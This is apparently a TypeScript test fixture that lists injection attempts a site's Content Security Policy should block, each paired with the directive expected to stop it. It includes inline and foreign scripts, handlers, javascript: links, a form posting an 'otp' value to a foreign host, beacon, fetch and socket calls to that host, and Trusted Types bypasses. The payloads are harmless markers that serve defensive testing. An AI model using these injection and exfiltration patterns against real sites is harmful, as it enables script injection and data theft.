/** A page into which somebody brought everything that the policy is there to stop, and what must come of it. */

/** One thing that must not happen. */
export interface Attack {
  readonly name: string;
  /** Put into the page's text. `@` is the address of a foreign site. */
  readonly html?: string;
  /**
   * Run in the page when it is there, with the foreign address; as code of this site that goes astray would.
   */
  readonly act?: (foreign: string) => void;
  /** Directive that the browser names. */
  readonly stoppedBy: readonly string[];
}

export const attacks: readonly Attack[] = [
  {
    name: 'inline script',
    html: '<script>document.documentElement.dataset.hit = "inline script"</script>',
    stoppedBy: ['script-src-elem'],
  },
  {
    name: 'inline handler',
    html: '<img src="/bieu-tuong.svg" alt="" onload="document.documentElement.dataset.hit = \'handler\'">',
    stoppedBy: ['script-src-attr'],
  },
  {
    name: 'javascript: link',
    html: '<a id="js-link" href="javascript:void(document.documentElement.dataset.hit = \'link\')">x</a>',
    act: () => document.getElementById('js-link')?.click(),
    stoppedBy: ['script-src-elem', 'script-src'],
  },
  { name: 'foreign script', html: '<script src="@/x.js"></script>', stoppedBy: ['script-src-elem'] },
  {
    name: 'foreign module',
    html: '<script type="module" src="@/m.js"></script>',
    stoppedBy: ['script-src-elem'],
  },
  { name: 'foreign picture', html: '<img src="@/x.png" alt="">', stoppedBy: ['img-src'] },
  {
    name: 'picture in the address',
    html: '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="">',
    stoppedBy: ['img-src'],
  },
  { name: 'foreign style', html: '<link rel="stylesheet" href="@/x.css">', stoppedBy: ['style-src-elem'] },
  {
    name: 'inline style',
    html: '<style>body { outline: 1px solid red }</style>',
    stoppedBy: ['style-src-elem'],
  },
  {
    name: 'style attribute',
    html: '<p id="styled" style="position: fixed">x</p>',
    stoppedBy: ['style-src-attr'],
  },
  { name: 'frame', html: '<iframe src="@/frame" title="x"></iframe>', stoppedBy: ['frame-src'] },
  { name: 'object', html: '<object data="@/x.swf"></object>', stoppedBy: ['object-src'] },
  {
    name: 'foreign form',
    html: '<form id="foreign-form" action="@/form" method="post"><input name="otp" value="123456"></form>',
    act: () => (document.getElementById('foreign-form') as HTMLFormElement).submit(),
    stoppedBy: ['form-action'],
  },
  { name: 'foreign base', html: '<base href="@/">', stoppedBy: ['base-uri'] },
  { name: 'film', html: '<video src="@/x.mp4"></video>', stoppedBy: ['media-src'] },
  {
    name: 'fetch',
    act: (foreign) => {
      fetch(`${foreign}/fetch`).catch(() => undefined);
    },
    stoppedBy: ['connect-src'],
  },
  {
    name: 'beacon',
    act: (foreign) => {
      navigator.sendBeacon(`${foreign}/beacon`, 'x');
    },
    stoppedBy: ['connect-src'],
  },
  {
    name: 'socket',
    act: (foreign) => {
      try {
        new WebSocket(`${foreign.replace('http', 'ws')}/socket`).onerror = null;
      } catch {
        /* refused at once */
      }
    },
    stoppedBy: ['connect-src'],
  },
  {
    name: 'text as markup',
    act: () => {
      try {
        document.createElement('div').innerHTML = '<b>x</b>';
        document.documentElement.dataset.hit = 'markup';
      } catch {
        /* refused */
      }
    },
    stoppedBy: ['require-trusted-types-for'],
  },
  {
    name: 'text as the address of a script',
    act: () => {
      try {
        document.createElement('script').src = '/x.js';
        document.documentElement.dataset.hit = 'address';
      } catch {
        /* refused */
      }
    },
    stoppedBy: ['require-trusted-types-for'],
  },
  {
    name: 'text as a worker',
    act: () => {
      try {
        new Worker('/sw.js');
        document.documentElement.dataset.hit = 'worker';
      } catch {
        /* refused */
      }
    },
    stoppedBy: ['require-trusted-types-for'],
  },
  {
    name: 'text as code, later',
    act: () => {
      try {
        setTimeout('document.documentElement.dataset.hit = "later"', 0);
      } catch {
        /* refused */
      }
    },
    stoppedBy: ['require-trusted-types-for', 'script-src'],
  },
  {
    name: 'a policy of one’s own',
    act: () => {
      try {
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string, item: object): unknown } }
        ).trustedTypes.createPolicy('evil', { createHTML: (text: string) => text });
        document.documentElement.dataset.hit = 'policy';
      } catch {
        /* refused */
      }
    },
    stoppedBy: ['trusted-types'],
  },
];

/** The page with all of it: what is written in its text stands at the end of the body. */
export const attacked = (html: string, foreign: string): string =>
  html.replace(
    '</body>',
    `${attacks
      .map((attack) => attack.html ?? '')
      .join('\n')
      .replaceAll('@', foreign)}</body>`,
  );
